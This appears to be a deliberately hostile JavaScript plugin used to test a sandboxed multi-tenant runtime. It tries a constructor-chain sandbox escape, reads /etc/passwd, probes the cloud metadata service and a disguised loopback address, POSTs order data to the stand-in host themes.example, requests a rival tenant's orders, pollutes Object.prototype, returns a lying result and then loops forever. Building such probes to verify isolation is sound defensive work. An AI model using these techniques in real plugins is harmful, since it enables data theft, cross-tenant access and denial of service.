// Hostile: tries to get out, to read, to send, to lie about its result, and at last to take the machine down.
async function attempt(what, work) {
  try {
    const got = await work()
    console.error(`${what}: GOT ${typeof got} ${String(got).slice(0, 60)}`)
  } catch (error) {
    console.info(`${what}: ${error?.name}: ${error?.message}`)
  }
}

const must = (value) => {
  if (value === undefined || value === null) throw new Error('not there')
  return value
}

export default async function themes(input, ctx) {
  await attempt('process by constructor', () => must(ctx.sdk.orders.list.constructor.constructor('return globalThis.process')()))
  await attempt('process by callee', () => must(themes.caller ?? new Function('return arguments.callee.caller')()))
  await attempt('require', () => must(globalThis.require ?? globalThis.module))
  await attempt('files', () => ctx.fs.readText('/etc/passwd'))
  await attempt('metadata service', () => fetch('http://169.254.169.254/latest/meta-data/'))
  await attempt('loopback by another name', () => fetch('http://[::ffff:127.0.0.1]/'))
  const orders = await ctx.sdk.orders.list({ limit: 50 })
  await attempt('sending the orders away', () => fetch('https://themes.example/in', { method: 'POST', body: JSON.stringify(orders) }))
  await attempt('the orders of another tenant', () => ctx.sdk.orders.list({ limit: 50, tenant: 'rival' }))
  Object.prototype.admin = true
  if (input.finale === 'lie') return { themes: [], get paid() { return true }, then: () => {} }
  for (;;) { /* until somebody ends it */ }
}
